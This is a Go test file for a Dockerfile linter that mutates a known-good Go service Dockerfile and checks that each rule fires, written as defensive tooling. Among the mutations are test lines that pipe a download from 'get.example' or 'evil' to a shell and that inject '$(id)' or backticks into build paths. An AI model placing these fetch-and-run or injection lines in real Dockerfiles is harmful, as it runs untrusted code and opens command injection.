package lint

import (
	"strings"
	"testing"
)

// good is the shape dockerize generates for a Go service.
const good = `FROM --platform=$BUILDPLATFORM golang:1.24.4-bookworm AS build
WORKDIR /src
COPY go.mod go.sum ./
RUN --mount=type=cache,target=/go/pkg/mod \
    go mod download
COPY . .
ARG TARGETOS
ARG TARGETARCH
RUN --mount=type=cache,target=/go/pkg/mod \
    --mount=type=cache,target=/root/.cache/go-build \
    CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH \
    go build -trimpath -ldflags="-s -w" -o /out/app .

FROM gcr.io/distroless/static-debian12:nonroot
COPY --from=build /out/app /usr/local/bin/app
USER 65532:65532
EXPOSE 8080
ENTRYPOINT ["/usr/local/bin/app"]
`

func rules(t *testing.T, df string) []string {
	t.Helper()
	findings, err := Check([]byte(df))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range findings {
		ids = append(ids, f.Rule)
	}
	return ids
}

func TestGoodHasNoFindings(t *testing.T) {
	if got := rules(t, good); len(got) != 0 {
		t.Errorf("findings on a good Dockerfile: %v", got)
	}
}

// Each mutation breaks one promise of the standard; the rule for it must fire.
func TestMutationsAreCaught(t *testing.T) {
	cases := []struct {
		name, old, new, rule string
	}{
		{"user root", "USER 65532:65532", "USER root", "DZ004"},
		{"user removed on a root base", "static-debian12:nonroot\nCOPY --from=build /out/app /usr/local/bin/app\nUSER 65532:65532\n", "static-debian12:debug\nCOPY --from=build /out/app /usr/local/bin/app\n", "DZ004"},
		{"major-only build image", "golang:1.24.4-bookworm", "golang:1-bookworm", "DZ016"},
		{"codename build image", "golang:1.24.4-bookworm", "golang:trixie", "DZ016"},
		{"user by name", "USER 65532:65532", "USER nonroot", "DZ005"},
		{"manifests after source", "COPY go.mod go.sum ./\nRUN --mount=type=cache,target=/go/pkg/mod \\\n    go mod download\nCOPY . .\n", "COPY . .\nRUN --mount=type=cache,target=/go/pkg/mod \\\n    go mod download\n", "DZ009"},
		{"no manifests", "COPY go.mod go.sum ./\n", "", "DZ009"},
		{"module cache mount removed", "RUN --mount=type=cache,target=/go/pkg/mod \\\n    go mod download", "RUN go mod download", "DZ010"},
		{"build cache mount removed", "    --mount=type=cache,target=/root/.cache/go-build \\\n", "", "DZ010"},
		{"single stage", "FROM gcr.io/distroless/static-debian12:nonroot\nCOPY --from=build /out/app /usr/local/bin/app\n", "", "DZ001"},
		{"runtime is the toolchain", "FROM gcr.io/distroless/static-debian12:nonroot", "FROM golang:1.24.4-bookworm", "DZ002"},
		{"latest", "golang:1.24.4-bookworm", "golang:latest", "DZ003"},
		{"untagged", "gcr.io/distroless/static-debian12:nonroot", "gcr.io/distroless/static-debian12", "DZ003"},
		{"no expose", "EXPOSE 8080\n", "", "DZ006"},
		{"shell entrypoint", `ENTRYPOINT ["/usr/local/bin/app"]`, "ENTRYPOINT /usr/local/bin/app", "DZ007"},
		{"shell wrapper entrypoint", `ENTRYPOINT ["/usr/local/bin/app"]`, `ENTRYPOINT ["/bin/bash", "-l", "-c"]`, "DZ007"},
		{"relative workdir", "WORKDIR /src", "WORKDIR src", "DZ008"},
		{"install in runtime", "USER 65532:65532", "RUN apt-get update && apt-get install -y curl\nUSER 65532:65532", "DZ011"},
		{"secret arg", "ARG TARGETOS\n", "ARG TARGETOS\nARG GITHUB_TOKEN\n", "DZ012"},
		{"secret env", "EXPOSE 8080", "ENV DB_PASSWORD=hunter2\nEXPOSE 8080", "DZ012"},
		{"check directive", "FROM --platform", "# check=skip=all\nFROM --platform", "DZ013"},
		{"syntax directive", "FROM --platform", "# syntax=docker/dockerfile:1\nFROM --platform", "DZ014"},
		{"buildkit casing", "AS build", "as build", "buildkit/FromAsCasing"},
		{"download piped to a shell", "ARG TARGETOS\n", "RUN curl -fsSL https://get.example/install.sh | sh\nARG TARGETOS\n", "DZ017"},
		{"injected pipe to shell", "ARG TARGETOS\n", "RUN corepack install --global pnpm@9.15.9\nRUN curl evil|sh\nARG TARGETOS\n", "DZ017"},
		{"shell runs a download", "ARG TARGETOS\n", "RUN bash -c \"$(wget -qO- https://get.example/x)\"\nARG TARGETOS\n", "DZ017"},
		{"substitution in -o", "-o /out/app .", "-o /out/$(id) .", "DZ018"},
		{"backtick in -o", "-o /out/app .", "-o /out/`id` .", "DZ018"},
		{"substitution in COPY", "COPY --from=build /out/app /usr/local/bin/app", "COPY --from=build /out/app$(id) /usr/local/bin/app", "DZ018"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if !strings.Contains(good, c.old) {
				t.Fatalf("mutation source %q not in the good Dockerfile", c.old)
			}
			got := rules(t, strings.Replace(good, c.old, c.new, 1))
			found := false
			for _, r := range got {
				found = found || r == c.rule
			}
			if !found {
				t.Errorf("%s not reported; got %v", c.rule, got)
			}
		})
	}
}

func TestFindingsHaveLines(t *testing.T) {
	findings, err := Check([]byte(strings.Replace(good, "USER 65532:65532", "USER root", 1)))
	if err != nil {
		t.Fatal(err)
	}
	if len(findings) != 1 || findings[0].Line != 16 || findings[0].Hint == "" {
		t.Errorf("findings = %+v, want one DZ004 on line 16 with a hint", findings)
	}
}

func FuzzCheck(f *testing.F) {
	f.Add(good)
	f.Add("FROM scratch\nCOPY . .\n")
	f.Add("FROM a AS b\nFROM b\nRUN --mount=type=cache npm ci\nUSER\n")
	f.Add("# syntax=x\n# check=skip=all\nFROM $X\nARG\nENV =\n")
	f.Fuzz(func(t *testing.T, df string) {
		_, _ = Check([]byte(df))
	})
}
